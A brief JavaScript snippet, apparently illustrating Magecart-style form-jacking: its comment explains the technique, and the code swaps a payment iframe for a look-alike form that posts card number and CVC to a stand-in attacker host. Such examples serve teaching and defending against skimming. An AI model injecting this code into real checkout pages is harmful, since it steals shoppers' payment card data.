// Form-jacking, as public Magecart demonstrations do it: a moment after
// load the provider's iframe is swapped for a look-alike form that posts
// to the attacker.
setTimeout(function () {
  var pay = document.getElementById('pay');
  pay.innerHTML = '<form action="https://collect.attacker.example/p" method="post">' +
    '<input name="card-number" autocomplete="cc-number"><input name="cvc"><button>Pay now</button></form>';
}, 2500);
